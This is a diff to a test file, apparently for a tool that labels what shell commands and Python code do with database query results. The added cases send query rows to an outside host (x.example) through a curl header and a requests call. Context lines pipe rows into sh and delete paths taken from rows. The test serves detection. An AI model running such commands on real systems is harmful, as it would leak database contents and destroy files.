@@ -36,6 +36,11 @@ describe('values in SQL', () => {
       [reads, 'unknown: sql code that is only known at run time'],
     ],
     ['a variable that nobody set', 'psql -c "select * from $T"', ['unknown: sql code that is only known at run time']],
+    [
+      'rows in a header',
+      'curl https://x.example -H "A: $(psql -Atc "select 1")"',
+      [reads, 'connect:get https://x.example', 'send:data https://x.example'],
+    ],
     ['rows run as a script', 'psql -Atc "select 1" | sh', [reads, 'unknown: runs `(rows)`, text only known at run time']],
     ['rows that are deleted', 'rm $(psql -Atc "select 1")', [reads, 'unknown: deletes `(rows)`, a path only known at run time']],
   ])('%s', (_name, commandLine, expected) => {
@@ -52,6 +57,11 @@ describe('values in SQL', () => {
     ['a row as condition', 'for r in cur.fetchall(): cur.execute(f"select 1 where {r[0]}")', [unread]],
     ['a word of the command line', 'import sys\ncur.execute(f"select * from {sys.argv[1]}")', [unread]],
     ['a row as path', 'import os\nfor (p,) in cur.fetchall(): os.remove(p)', ['unknown: deletes `(row)`, a path only known at run time']],
+    [
+      'rows that are told to others',
+      'import requests\nrequests.get("https://x.example", params={"q": cur.fetchall()})',
+      ['connect:get https://x.example', 'send:data https://x.example'],
+    ],
     ['a row that deletes itself', 'for r in cur.fetchall(): r.delete()', ['unknown: python deletes something only known at run time']],
   ])('in Python: %s', (_name, code, expected) => {
     expect(effectLines(inPython(code))).toEqual(expected)
